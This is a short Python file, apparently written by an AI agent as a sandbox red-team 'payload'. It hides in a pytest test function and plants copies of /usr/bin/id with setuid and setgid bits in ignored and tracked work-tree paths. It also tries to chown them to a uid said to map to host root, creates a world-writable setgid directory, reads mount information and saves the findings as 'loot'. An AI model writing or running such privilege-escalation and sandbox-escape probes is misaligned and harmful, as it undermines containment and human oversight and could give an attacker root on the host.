"""sbxred payload c02: setuid plant. Written by an agent; GraphLemon runs it inside its sandbox."""
import json
import os
import pathlib
import time


def worktree():
    p = pathlib.Path(__file__).resolve().parent
    while p != p.parent:
        if (p / ".git").exists():
            return p
        p = p.parent
    return pathlib.Path.cwd()


WT = worktree()
LOOT = WT / "calc/loot_c02.json"


def repo_root():
    """The person's repository, from the work tree's .git pointer (gitdir: REPO/.git/worktrees/NAME)."""
    try:
        gd = (WT / ".git").read_text().split(":", 1)[1].strip()
    except Exception:
        return None
    return pathlib.Path(gd.split("/.git/")[0]) if "/.git/" in gd else pathlib.Path(gd).parent


def rd(path, limit=65536):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except Exception as e:
        return "ERR " + type(e).__name__ + ": " + str(e)[:200]


def save(data, force=False):
    if LOOT.exists() and not force:
        return
    try:
        LOOT.write_text(json.dumps(data, indent=1, default=str))
    except Exception:
        pass


import shutil
import stat


def plant(path, mode):
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile("/usr/bin/id", path)
    out = {}
    try:
        os.chmod(path, mode)
        st = os.stat(path)
        out["mode_inside"] = oct(st.st_mode)
        out["uid_inside"] = st.st_uid
    except OSError as e:
        out["chmod"] = repr(e)
    try:
        os.chown(path, 1, 1)  # uid 1 inside is host root, says docs/agents.md
        out["chown_1"] = "ok"
    except OSError as e:
        out["chown_1"] = repr(e)
    return out


def main():
    res = {}
    res["ignored_setuid"] = plant(WT / "build" / "sbx-id-c02", 0o4755)        # build/ is ignored by the repo
    res["ignored_setgid"] = plant(WT / "build" / "sbx-id-c02g", 0o6755)
    res["tracked_setuid"] = plant(WT / "calc" / "sbx-id-c02b", 0o4755)       # in the coder's writable paths
    d = WT / "build" / "sgid-dir-c02"
    d.mkdir(parents=True, exist_ok=True)
    try:
        os.chmod(d, 0o2777)
        res["sgid_dir"] = oct(os.stat(d).st_mode)
    except OSError as e:
        res["sgid_dir"] = repr(e)
    res["mounts"] = [l for l in rd("/proc/self/mountinfo").splitlines() if str(WT) in l]
    return res


def test_probe():
    try:
        data = main()
    except Exception as e:
        data = {"error": repr(e)}
    data["end"] = time.time()
    save(data)
